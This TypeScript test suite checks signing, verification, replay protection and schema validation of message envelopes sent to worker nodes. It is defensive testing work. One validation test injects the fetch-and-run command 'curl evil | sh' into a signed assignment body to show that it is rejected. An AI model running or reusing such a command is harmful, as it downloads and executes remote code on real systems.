import { sign } from 'node:crypto';
import type { Assignment } from '@lunanexa/contracts';
import { expect } from 'chai';
import { ENVELOPE_SCHEMAS, type UnsignedEnvelopeOf } from '../src/envelope';
import { ReplayGuard } from '../src/replay-guard';
import { createEnvelope, signEnvelope, signingInput, verifyEnvelope } from '../src/signing';
import { ErrorCode, expectErrorCode, fixture, freshKeyPair } from './support';

const NOW = new Date('2026-03-02T10:00:00.000Z');
const NODE = 'node-01JD3K5Q8Y7Z';

function anAssignment(overrides: Partial<Assignment> = {}): Assignment {
  const put = ENVELOPE_SCHEMAS['assignment.put'].parse(fixture('assignment-put.json'));
  return { ...put.body.assignment, ...overrides };
}

/** A JSON round trip: what the receiver actually sees. */
function wire<T>(value: T): Record<string, unknown> {
  return JSON.parse(JSON.stringify(value)) as Record<string, unknown>;
}

/** Signs whatever it is given, bypassing signEnvelope's schema check, to prove the verifier checks too. */
function signRaw(privateKey: ReturnType<typeof freshKeyPair>['privateKey'], keyId: string, unsigned: object) {
  const value = sign(null, signingInput(unsigned), privateKey).toString('base64url');
  return { ...unsigned, signature: { keyId, alg: 'Ed25519', value } };
}

describe('envelope signing and verification', () => {
  const controller = freshKeyPair();
  const other = freshKeyPair();
  const keys = new Map([['controller-1', controller.publicKey]]);

  function put(issuedAt: Date = NOW, nonce?: string): UnsignedEnvelopeOf<'assignment.put'> {
    return createEnvelope('assignment.put', {
      nodeId: NODE,
      issuedAt,
      ...(nonce === undefined ? {} : { nonce }),
      body: { assignment: anAssignment() },
    });
  }

  it('round-trips: sign, send as JSON, verify to the same typed envelope', () => {
    const signed = signEnvelope(controller.privateKey, 'controller-1', put());
    const verified = verifyEnvelope(keys, wire(signed), { now: NOW });
    expect(verified).to.deep.equal(signed);
    expect(verified.type).to.equal('assignment.put');
    if (verified.type === 'assignment.put') expect(verified.body.assignment.generation).to.equal(3);
  });

  it('does not depend on member order on the wire (the signing input is canonical)', () => {
    const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
    const reversed = Object.fromEntries(Object.entries(signed).reverse());
    expect(Object.keys(reversed)).to.not.deep.equal(Object.keys(signed));
    expect(() => verifyEnvelope(keys, reversed, { now: NOW })).to.not.throw();
  });

  it('generates distinct ids and nonces', () => {
    const a = put();
    const b = put();
    expect(a.id).to.not.equal(b.id);
    expect(a.nonce).to.not.equal(b.nonce);
  });

  it('refuses a tampered body with SIGNATURE_INVALID', () => {
    const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
    const body = signed['body'] as { assignment: Record<string, unknown> };
    body.assignment['generation'] = 4;
    expectErrorCode(() => verifyEnvelope(keys, signed, { now: NOW }), ErrorCode.SIGNATURE_INVALID);
  });

  for (const [field, value] of [
    ['nodeId', 'node-other'],
    ['id', 'msg-other'],
    ['issuedAt', new Date(NOW.getTime() + 1).toISOString()],
    ['nonce', 'AAAAAAAAAAAAAAAAAAAAAAAA'],
    ['type', 'status.get'],
  ] as const) {
    it(`refuses a tampered ${field} with SIGNATURE_INVALID`, () => {
      const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
      signed[field] = value;
      expectErrorCode(() => verifyEnvelope(keys, signed, { now: NOW }), ErrorCode.SIGNATURE_INVALID);
    });
  }

  describe('traceparent (the sender span, for tracing across the channel)', () => {
    const TRACEPARENT = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';
    const traced = (traceparent: string) =>
      createEnvelope('assignment.put', {
        nodeId: NODE,
        issuedAt: NOW,
        traceparent,
        body: { assignment: anAssignment() },
      });

    it('travels signed and verifies; an envelope without one has no such member', () => {
      const verified = verifyEnvelope(
        keys,
        wire(signEnvelope(controller.privateKey, 'controller-1', traced(TRACEPARENT))),
        {
          now: NOW,
        },
      );
      expect(verified.traceparent).to.equal(TRACEPARENT);
      expect(put()).to.not.have.property('traceparent');
    });

    it('is covered by the signature: a swapped or removed traceparent is SIGNATURE_INVALID', () => {
      const swapped = wire(signEnvelope(controller.privateKey, 'controller-1', traced(TRACEPARENT)));
      swapped['traceparent'] = '00-11111111111111111111111111111111-2222222222222222-01';
      expectErrorCode(() => verifyEnvelope(keys, swapped, { now: NOW }), ErrorCode.SIGNATURE_INVALID);
      const removed = wire(signEnvelope(controller.privateKey, 'controller-1', traced(TRACEPARENT)));
      delete removed['traceparent'];
      expectErrorCode(() => verifyEnvelope(keys, removed, { now: NOW }), ErrorCode.SIGNATURE_INVALID);
    });

    it('refuses a malformed traceparent, signed or not, with VALIDATION_FAILED', () => {
      expect(() => signEnvelope(controller.privateKey, 'controller-1', traced('00-nottrace'))).to.throw();
      const raw = signRaw(controller.privateKey, 'controller-1', traced('not-a-traceparent'));
      expectErrorCode(() => verifyEnvelope(keys, wire(raw), { now: NOW }), ErrorCode.VALIDATION_FAILED);
    });
  });

  it('refuses a signature by a key other than the one the key id names (wrong key)', () => {
    const signed = signEnvelope(other.privateKey, 'controller-1', put());
    expectErrorCode(() => verifyEnvelope(keys, wire(signed), { now: NOW }), ErrorCode.SIGNATURE_INVALID);
  });

  it('refuses an unknown key id', () => {
    const signed = signEnvelope(other.privateKey, 'controller-2', put());
    expectErrorCode(() => verifyEnvelope(keys, wire(signed), { now: NOW }), ErrorCode.SIGNATURE_INVALID);
  });

  it('refuses a valid signature relabelled with another trusted key id', () => {
    const both = new Map([...keys, ['controller-2', other.publicKey]]);
    const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
    (signed['signature'] as Record<string, unknown>)['keyId'] = 'controller-2';
    expectErrorCode(() => verifyEnvelope(both, signed, { now: NOW }), ErrorCode.SIGNATURE_INVALID);
  });

  it('refuses another algorithm name and a non-canonical signature spelling as VALIDATION_FAILED', () => {
    const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
    const alg = structuredClone(signed);
    (alg['signature'] as Record<string, unknown>)['alg'] = 'EdDSA';
    expectErrorCode(() => verifyEnvelope(keys, alg, { now: NOW }), ErrorCode.VALIDATION_FAILED);
    const spelled = structuredClone(signed);
    const signature = spelled['signature'] as { value: string };
    // The last character carries two bits; 'B' sets a padding bit that base64url decoding would ignore.
    signature.value = `${signature.value.slice(0, 85)}B`;
    expectErrorCode(() => verifyEnvelope(keys, spelled, { now: NOW }), ErrorCode.VALIDATION_FAILED);
  });

  describe('clock skew', () => {
    const skew = 60_000;
    for (const [label, offset, code] of [
      ['exactly maxSkewMs old', -skew, null],
      ['exactly maxSkewMs ahead', skew, null],
      ['1 ms older than maxSkewMs', -skew - 1, ErrorCode.REPLAY_DETECTED],
      ['1 ms further ahead than maxSkewMs', skew + 1, ErrorCode.REPLAY_DETECTED],
    ] as const) {
      it(`${code === null ? 'accepts' : 'refuses'} an envelope issued ${label}`, () => {
        const signed = signEnvelope(
          controller.privateKey,
          'controller-1',
          put(new Date(NOW.getTime() + offset)),
        );
        const run = () => verifyEnvelope(keys, wire(signed), { now: NOW, maxSkewMs: skew });
        if (code === null) expect(run).to.not.throw();
        else expectErrorCode(run, code);
      });
    }
  });

  describe('replay', () => {
    it('refuses the same envelope twice with REPLAY_DETECTED', () => {
      const guard = new ReplayGuard({ windowMs: 60_000 });
      const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
      verifyEnvelope(keys, signed, { now: NOW, maxSkewMs: 60_000, replayGuard: guard });
      expectErrorCode(
        () =>
          verifyEnvelope(keys, signed, {
            now: new Date(NOW.getTime() + 1000),
            maxSkewMs: 60_000,
            replayGuard: guard,
          }),
        ErrorCode.REPLAY_DETECTED,
      );
      // A fresh envelope (new nonce) still passes.
      const fresh = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
      expect(() =>
        verifyEnvelope(keys, fresh, { now: NOW, maxSkewMs: 60_000, replayGuard: guard }),
      ).to.not.throw();
    });

    it('refuses the same envelope once its window is over, by its timestamp', () => {
      const guard = new ReplayGuard({ windowMs: 60_000 });
      const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
      verifyEnvelope(keys, signed, { now: NOW, maxSkewMs: 60_000, replayGuard: guard });
      const later = new Date(NOW.getTime() + 60_001);
      expectErrorCode(
        () => verifyEnvelope(keys, signed, { now: later, maxSkewMs: 60_000, replayGuard: guard }),
        ErrorCode.REPLAY_DETECTED,
      );
    });

    it('lets a forgery burn no nonce: the genuine envelope with that nonce still passes', () => {
      const guard = new ReplayGuard({ windowMs: 60_000 });
      const nonce = 'bm9uY2Utc2hhcmVkLWJ5LWZvcmdlcnk';
      const forged = signEnvelope(other.privateKey, 'controller-1', put(NOW, nonce));
      expectErrorCode(
        () => verifyEnvelope(keys, wire(forged), { now: NOW, maxSkewMs: 60_000, replayGuard: guard }),
        ErrorCode.SIGNATURE_INVALID,
      );
      const genuine = signEnvelope(controller.privateKey, 'controller-1', put(NOW, nonce));
      expect(() =>
        verifyEnvelope(keys, wire(genuine), { now: NOW, maxSkewMs: 60_000, replayGuard: guard }),
      ).to.not.throw();
    });

    it('refuses to run with a guard whose window is shorter than the skew', () => {
      const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
      expect(() =>
        verifyEnvelope(keys, signed, {
          now: NOW,
          maxSkewMs: 60_000,
          replayGuard: new ReplayGuard({ windowMs: 1000 }),
        }),
      ).to.throw(/window/);
    });
  });

  describe('validation', () => {
    for (const [label, input] of [
      ['a string', 'hello'],
      ['null', null],
      ['an array', []],
      ['an empty object', {}],
    ] as const) {
      it(`refuses ${label} as VALIDATION_FAILED`, () => {
        expectErrorCode(() => verifyEnvelope(keys, input, { now: NOW }), ErrorCode.VALIDATION_FAILED);
      });
    }

    it('refuses an unknown top-level member, naming it', () => {
      const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
      signed['command'] = 'id';
      const error = expectErrorCode(
        () => verifyEnvelope(keys, signed, { now: NOW }),
        ErrorCode.VALIDATION_FAILED,
      );
      expect(error.violations.map((violation) => violation.message).join(' ')).to.contain('command');
    });

    it('refuses a correctly signed body with a member the schema does not know (e.g. a command)', () => {
      const unsigned = put();
      const body = { assignment: { ...unsigned.body.assignment, command: 'curl evil | sh' } };
      const signed = signRaw(controller.privateKey, 'controller-1', { ...unsigned, body });
      const error = expectErrorCode(
        () => verifyEnvelope(keys, signed, { now: NOW }),
        ErrorCode.VALIDATION_FAILED,
      );
      expect(error.violations.map((violation) => violation.path)).to.include('body.assignment');
    });

    it('refuses an assignment addressed to a node other than the envelope names', () => {
      const unsigned = put();
      const body = { assignment: { ...unsigned.body.assignment, nodeId: 'node-other' } };
      const signed = signRaw(controller.privateKey, 'controller-1', { ...unsigned, body });
      const error = expectErrorCode(
        () => verifyEnvelope(keys, signed, { now: NOW }),
        ErrorCode.VALIDATION_FAILED,
      );
      expect(error.violations.map((violation) => violation.path)).to.include('body.assignment.nodeId');
    });

    it('refuses an envelope for another node and a type the receiver does not accept', () => {
      const signed = wire(signEnvelope(controller.privateKey, 'controller-1', put()));
      expectErrorCode(
        () => verifyEnvelope(keys, signed, { now: NOW, nodeId: 'node-other' }),
        ErrorCode.VALIDATION_FAILED,
      );
      expectErrorCode(
        () => verifyEnvelope(keys, signed, { now: NOW, types: ['status.get'] }),
        ErrorCode.VALIDATION_FAILED,
      );
      expect(() =>
        verifyEnvelope(keys, signed, { now: NOW, nodeId: NODE, types: ['assignment.put'] }),
      ).to.not.throw();
    });

    it('signEnvelope refuses to sign an invalid envelope', () => {
      const unsigned = put();
      const invalid = { ...unsigned, body: { assignment: { ...unsigned.body.assignment, generation: -1 } } };
      expectErrorCode(
        () => signEnvelope(controller.privateKey, 'controller-1', invalid),
        ErrorCode.VALIDATION_FAILED,
      );
    });

    it('signEnvelope refuses a key that is not an Ed25519 private key', () => {
      expect(() => signEnvelope(controller.publicKey, 'controller-1', put())).to.throw(/Ed25519 private key/);
    });
  });
});
